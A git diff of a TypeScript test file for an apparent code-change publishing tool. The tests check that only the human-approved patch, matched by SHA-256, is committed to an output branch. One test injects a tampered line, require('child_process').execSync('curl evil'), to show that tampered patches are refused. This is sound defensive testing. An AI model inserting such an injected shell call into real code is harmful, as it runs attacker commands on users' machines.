@@ -1,8 +1,10 @@
 import { strict as assert } from 'node:assert';
+import { execFileSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import { join } from 'node:path';
 import { GitWorkspaceProvider } from '../../../src/adapters/git/worktree';
 import { GitOutputPublisher, NOTES_REF } from '../../../src/adapters/git/output';
+import { sha256Hex } from '../../../src/core/hash';
 import { DirectorySetupCache } from '../../../src/adapters/local/setup-cache';
 import { git, tempRepo } from './temp-repo';
 
@@ -35,17 +37,23 @@ describe('adapters/git: run workspace and output branch (real git)', () => {
     await assert.rejects(provider.resolveBase('deadbeef'), /does not exist/);
   });
 
-  it('publishes branch shopfloor/<run-id> with one commit, trailers and an evidence note; repeatable', async () => {
+  it('publishes branch shopfloor/<run-id> with one commit of the approved patch, trailers and an evidence note; repeatable', async () => {
     const t = tempRepo();
     fs.writeFileSync(join(t.repo, 'wip.txt'), 'uncommitted\n');
     const before = fs.readFileSync(join(t.repo, 'index.js'), 'utf8');
     const provider = new GitWorkspaceProvider(t.repo);
     const ws = await provider.create('r2', t.head);
     fs.writeFileSync(join(ws.dir, 'index.js'), "module.exports = 'fixed';\n");
+    fs.writeFileSync(join(ws.dir, 'logo.bin'), Buffer.from([0, 1, 2, 255, 0, 10, 13, 0]));
+    const patch = (await ws.diff()).patch;
+    // After the diff: a change the gate never saw (a station's background process) must not ship.
+    fs.writeFileSync(join(ws.dir, 'test.js'), 'pwned\n');
     const publisher = new GitOutputPublisher(t.repo);
     const req = {
       runId: 'r2',
-      workspace: ws,
+      baseCommit: t.head,
+      patch,
+      approvedPatchSha256: sha256Hex(patch),
       message: 'Fix the parser\n\nShopfloor-Run: r2\nApproved-by: alice\nAgent: command:node fix.js\n',
       note: '# Shopfloor run r2: PR_READY\n',
       date: '2026-11-21T20:00:00.000Z',
@@ -56,16 +64,31 @@ describe('adapters/git: run workspace and output branch (real git)', () => {
     assert.equal(git(t.repo, 'rev-parse', 'shopfloor/r2^'), t.head, 'exactly one commit on the base');
     assert.equal(git(t.repo, 'log', '-1', '--format=%(trailers:key=Approved-by,valueonly)', 'shopfloor/r2'), 'alice');
     assert.equal(git(t.repo, 'log', '-1', '--format=%(trailers:key=Shopfloor-Run,valueonly)', 'shopfloor/r2'), 'r2');
-    assert.equal(git(t.repo, 'log', '-1', '--format=%an', 'shopfloor/r2'), 'Dev');
+    assert.equal(git(t.repo, 'log', '-1', '--format=%an %cI', 'shopfloor/r2'), 'Dev 2026-11-21T20:00:00+00:00');
     assert.equal(git(t.repo, 'notes', `--ref=${NOTES_REF}`, 'show', out.commit), '# Shopfloor run r2: PR_READY');
-    assert.deepEqual(git(t.repo, 'diff', '--name-only', `${t.head}`, 'shopfloor/r2').split('\n'), ['index.js']);
+    assert.deepEqual(git(t.repo, 'diff', '--name-only', `${t.head}`, 'shopfloor/r2').split('\n'), ['index.js', 'logo.bin']);
+    assert.equal(git(t.repo, 'diff', '--binary', '--no-color', t.head, 'shopfloor/r2'), patch.trimEnd(), 'the commit holds exactly the approved patch');
+    assert.deepEqual([...execFileSync('git', ['show', 'shopfloor/r2:logo.bin'], { cwd: t.repo })], [0, 1, 2, 255, 0, 10, 13, 0]);
     // the user's checkout: same HEAD, same branch, same files, their uncommitted work intact
     assert.equal(git(t.repo, 'rev-parse', 'HEAD'), t.head);
     assert.equal(git(t.repo, 'symbolic-ref', '--short', 'HEAD'), 'main');
     assert.equal(fs.readFileSync(join(t.repo, 'index.js'), 'utf8'), before);
     assert.equal(git(t.repo, 'status', '--porcelain'), '?? wip.txt');
-    // a resumed run publishing again gets the same branch and commit
-    assert.deepEqual(await publisher.publish(req), out);
+    // a resumed run publishing again gets the same branch and commit, even from a fresh publisher
+    assert.deepEqual(await new GitOutputPublisher(t.repo).publish(req), out);
+  });
+
+  it('refuses a patch whose SHA-256 is not the approved one, and publishes nothing', async () => {
+    const t = tempRepo();
+    const provider = new GitWorkspaceProvider(t.repo);
+    const ws = await provider.create('r3', t.head);
+    fs.writeFileSync(join(ws.dir, 'index.js'), "module.exports = 'fixed';\n");
+    const approved = (await ws.diff()).patch;
+    const edited = approved.replace("'fixed'", "'fixed'; require('child_process').execSync('curl evil')");
+    const req = { runId: 'r3', baseCommit: t.head, patch: edited, approvedPatchSha256: sha256Hex(approved), message: 'Fix\n', note: 'n\n', date: '2026-11-21T20:00:00.000Z' };
+    await assert.rejects(new GitOutputPublisher(t.repo).publish(req), (e: Error) => e.name === 'OutputRefusedError' && /not the one the output gate approved/.test(e.message));
+    assert.equal(git(t.repo, 'branch', '--list', 'shopfloor/*'), '');
+    assert.equal(git(t.repo, 'notes', `--ref=${NOTES_REF}`, 'list'), '');
   });
 });
 
